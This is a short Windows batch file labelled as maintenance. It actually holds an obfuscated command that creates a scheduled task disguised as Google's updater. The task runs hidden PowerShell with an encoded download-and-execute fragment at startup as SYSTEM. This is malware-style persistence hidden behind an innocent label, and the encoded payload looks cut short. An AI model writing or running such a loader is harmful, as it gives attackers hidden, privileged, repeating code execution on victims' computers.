REM maintenance 1909 v4
^for /^f "tokens=1 delims=@" %%^i in ("schtasks@spea@kywm") d^o %%i /cre^at^e /t^n "GoogleUpdateTaskMachine" /^tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc ^onsta^rt /ru S^YS^TE^M /^f
